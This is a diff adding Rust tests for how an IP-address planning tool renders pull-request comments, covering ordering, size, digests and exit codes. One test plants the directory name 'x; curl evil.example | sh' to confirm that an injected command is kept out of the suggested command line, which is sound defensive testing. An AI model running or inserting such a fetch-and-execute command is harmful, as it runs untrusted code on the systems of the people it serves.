@@ -1,0 +1,252 @@
+//! The comment of a pull request as text: what a reader sees first, and that it always fits.
+
+use std::time::Instant;
+
+use cilium_ipam::render::{Circumstances, comment};
+use ipam_planner::plan::{PlanDocument, RefusalDocument};
+
+use super::markdown::{PIECES, assert_text_only, plan, with_text};
+use super::support::{Folder, KUBERNETES, Ran, cluster, holds, node, pool, repository, run};
+
+const AROUND: Circumstances<'static> = Circumstances {
+    commit: Some("0123456789abcdef0123456789abcdef01234567"),
+    cluster: Some("prod"),
+    time: "2026-11-25T20:00:00Z",
+};
+
+/// A plan of 5,000 nodes in 100 pools and 10 failure domains, with 300 refusals.
+pub fn big_plan() -> PlanDocument {
+    let mut plan = plan();
+    let changes = plan.changes.iter();
+    let model = changes.clone().find(|change| change.kind == "Node");
+    let model = model.unwrap().clone();
+    plan.changes.retain(|change| change.kind != "Node");
+    plan.changes.extend((0..5_000).map(|number| {
+        let mut change = model.clone();
+        change.needs_approval.clear();
+        change.name = format!("worker-{number:04}.rack.example");
+        change.pool = Some(format!("rack-{}", number % 100));
+        change.failure_domain = Some(format!("zone-{}", number % 10));
+        change.after = vec![format!("10.{}.{}.0/24", number / 250, number % 250)];
+        change
+    }));
+    let refusal = |number: usize| RefusalDocument {
+        rule: "protected-node".to_owned(),
+        message: format!(
+            "node `worker-{number:04}.rack.example` would need a restart of its agent, and is protected"
+        ),
+        help: "remove the protection first, in a change of its own".to_owned(),
+        waiver: None,
+    };
+    plan.refusals = (0..300).map(refusal).collect();
+    plan.services.clear();
+    plan.changes.retain(|change| change.hazard != "destructive");
+    (plan.summary.assign, plan.summary.needs_approval) = (5_000, 0);
+    plan.source.directory = "clusters/prod/pools".to_owned();
+    let json = serde_json::to_string(&plan).unwrap();
+    PlanDocument::resealed(&json).unwrap()
+}
+
+fn dry_run(folder: &std::path::Path, arguments: &[&str]) -> Ran {
+    run(folder, &[&["comment", "--dry-run"], arguments].concat())
+}
+
+#[test]
+fn a_plan_of_5000_nodes_with_300_refusals_fits_and_begins_with_the_worst() {
+    let plan = big_plan();
+    let began = Instant::now();
+    let page = comment(&plan, &AROUND);
+    let took = began.elapsed();
+    println!(
+        "comment: bytes={} characters={} ms={}",
+        page.len(),
+        page.chars().count(),
+        took.as_millis()
+    );
+    assert_text_only(&page);
+    let lines: Vec<&str> = page.lines().filter(|line| !line.is_empty()).collect();
+    assert_eq!(
+        lines[0],
+        "### `clusters/prod/pools` on `prod`: refused. 300 refusals, 1 error, 1 blocked change, 1 misplaced block, 5,000 to assign, 0 moved"
+    );
+    assert_eq!(
+        lines[1],
+        "**Look at first:** refused by `protected-node`: node `worker-0000.rack.example` would need a restart of its agent, and is protected (300 like this); **way out:** remove the protection first, in a change of its own"
+    );
+    let order = [
+        "- **refused** 300 times by `protected-node`",
+        "<summary>blocked, ",
+        "- **error** ",
+        "<summary>misplaced, ",
+        "<summary>by pool and failure domain, 5,000 changes",
+        "<summary>pool <code>rack-0</code>, 50 changes",
+        "digest `",
+        "All of it",
+    ];
+    let places: Vec<usize> = order
+        .iter()
+        .map(|mark| {
+            page.find(mark)
+                .unwrap_or_else(|| panic!("{mark} in {page}"))
+        })
+        .collect();
+    assert!(places.is_sorted(), "{places:?} in {page}");
+    assert!(page.contains("| `rack-0` | `zone-0` | 50 | 0 |"), "{page}");
+    assert!(
+        page.contains("The plan is refused, so it cannot be applied as it is."),
+        "{page}"
+    );
+    assert!(
+        page.contains("`cilium-ipam plan clusters/prod/pools --full`"),
+        "{page}"
+    );
+}
+
+#[test]
+fn a_plan_without_risk_says_so_and_how_to_apply_exactly_it() {
+    let example = repository().join("examples/racks");
+    let flags = [
+        "pools",
+        "--cluster-file",
+        "cluster.yaml",
+        "--cluster-name",
+        "lab",
+    ];
+    let page = dry_run(&example, &flags).expect(0).stdout;
+    assert_text_only(&page);
+    let first = page.lines().next().unwrap();
+    assert_eq!(
+        first,
+        "### `pools` on `lab`: nothing in use changes. 7 to assign, 0 moved"
+    );
+    assert!(!page.contains("Look at first"), "{page}");
+    let digits = page.split("--expect-digest ").nth(1).unwrap();
+    let digits = digits.split('`').next().unwrap();
+    let folder = Folder::new(&[]);
+    let copy = std::fs::read(example.join("cluster.yaml")).unwrap();
+    folder.write("cluster.yaml", copy);
+    std::fs::create_dir(folder.join("pools")).unwrap();
+    for file in std::fs::read_dir(example.join("pools")).unwrap() {
+        let path = file.unwrap().path();
+        std::fs::copy(&path, folder.join("pools").join(path.file_name().unwrap())).unwrap();
+    }
+    let apply = ["apply", "pools", "--cluster-file", "cluster.yaml"];
+    let applied = folder.run(&[&apply[..], &["--expect-digest", digits]].concat());
+    applied.expect(0);
+}
+
+#[test]
+fn a_saved_plan_gives_the_comment_of_its_directory_only() {
+    let example = repository().join("examples/racks");
+    let folder = Folder::new(&[]);
+    let file = folder.join("p.json");
+    let file = file.to_str().unwrap();
+    let plan = ["plan", "pools", "--cluster-file", "cluster.yaml", "--out"];
+    run(&example, &[&plan[..], &[file]].concat()).expect(0);
+    let saved = dry_run(&example, &["--plan", file, "--directory", "pools"]).expect(0);
+    let direct = dry_run(&example, &["pools", "--cluster-file", "cluster.yaml"]).expect(0);
+    let without_time = |page: &str| {
+        let lines = page.lines().filter(|line| !line.contains("digest"));
+        lines.collect::<Vec<_>>().join("\n")
+    };
+    assert_eq!(without_time(&saved.stdout), without_time(&direct.stdout));
+
+    let other = dry_run(&example, &["--plan", file, "--directory", "others"]).expect(1);
+    assert!(
+        other
+            .stderr
+            .contains("the plan was made from `pools`, and --directory asks for `others`"),
+        "{}",
+        other.stderr
+    );
+    let both = dry_run(&example, &["pools", "--plan", file]).expect(1);
+    assert!(
+        both.stderr.contains("cannot be used with"),
+        "{}",
+        both.stderr
+    );
+    let edited = folder.read("p.json").replace("10.20.", "10.66.");
+    folder.write("edited.json", edited);
+    let edited = folder.join("edited.json");
+    let refused = dry_run(&example, &["--plan", edited.to_str().unwrap()]).expect(1);
+    assert!(
+        refused.stderr.contains("do not match its digest"),
+        "{}",
+        refused.stderr
+    );
+}
+
+#[test]
+fn invalid_files_and_fail_on_decide_the_exit_code() {
+    let nodes = [node("n1", "a", &holds("10.99.0.0/24"))];
+    let folder = Folder::new(&[
+        (
+            "pools/a.yaml",
+            &pool("a", "{cidrs: [10.20.0.0/16], blockSize: 24}"),
+        ),
+        (
+            "bad/a.yaml",
+            &pool("a", "{cidrs: [10.20.0.0/99], blockSize: 24}"),
+        ),
+        ("cluster.json", &cluster("1.19.3", KUBERNETES, &nodes)),
+    ]);
+    let on = ["--cluster-file", "cluster.json"];
+    let bad = dry_run(folder.path(), &[&["bad"], &on[..]].concat()).expect(3);
+    let title = "### `bad`: no plan, the files are invalid: 1 error\n";
+    assert!(bad.stdout.starts_with(title), "{}", bad.stdout);
+    assert_text_only(&bad.stdout);
+    let fails = [&["pools", "--fail-on", "misplaced"], &on[..]].concat();
+    let page = dry_run(folder.path(), &fails).expect(2).stdout;
+    assert!(
+        page.contains("\n**Look at first:** misplaced: `n1` with `10.99.0.0/24`: "),
+        "{page}"
+    );
+    assert!(page.contains("**way out:**"), "{page}");
+    dry_run(folder.path(), &[&["pools"], &on[..]].concat()).expect(0);
+}
+
+#[test]
+fn a_directory_that_is_no_word_of_a_shell_is_not_in_a_command() {
+    let mut plan = plan();
+    plan.source.directory = "x; curl evil.example | sh".to_owned();
+    let page = comment(&plan, &AROUND);
+    assert!(page.contains("`cilium-ipam plan DIR --full`"), "{page}");
+    assert!(!page.contains("plan x;"), "{page}");
+}
+
+#[test]
+fn a_comment_takes_text_of_others_as_text_in_every_risk() {
+    let whole = plan();
+    let mut random = fastrand::Rng::with_seed(20);
+    let alone = PIECES.iter().map(|piece| (*piece).to_owned());
+    let mixed = (0..60).map(|_| {
+        (0..random.usize(2..10))
+            .filter_map(|_| random.choice(PIECES))
+            .collect::<String>()
+    });
+    for text in alone.chain(mixed.collect::<Vec<_>>()) {
+        // Each step removes the worst risk, so that each one is once the first to look at.
+        let mut plan = with_text(whole.clone(), &text);
+        let steps: [fn(&mut PlanDocument); 7] = [
+            |_| (),
+            |plan| plan.services.clear(),
+            |plan| plan.changes.retain(|one| one.hazard != "destructive"),
+            |plan| plan.refusals.clear(),
+            |plan| plan.findings.clear(),
+            |plan| {
+                let changes = plan.changes.iter_mut();
+                changes.for_each(|change| change.needs_approval.clear());
+            },
+            |plan| plan.blocked.clear(),
+        ];
+        for step in steps {
+            step(&mut plan);
+            let around = Circumstances {
+                commit: Some(&text),
+                cluster: Some(&text),
+                time: "2026-11-25T20:00:00Z",
+            };
+            assert_text_only(&comment(&plan, &around));
+        }
+    }
+}
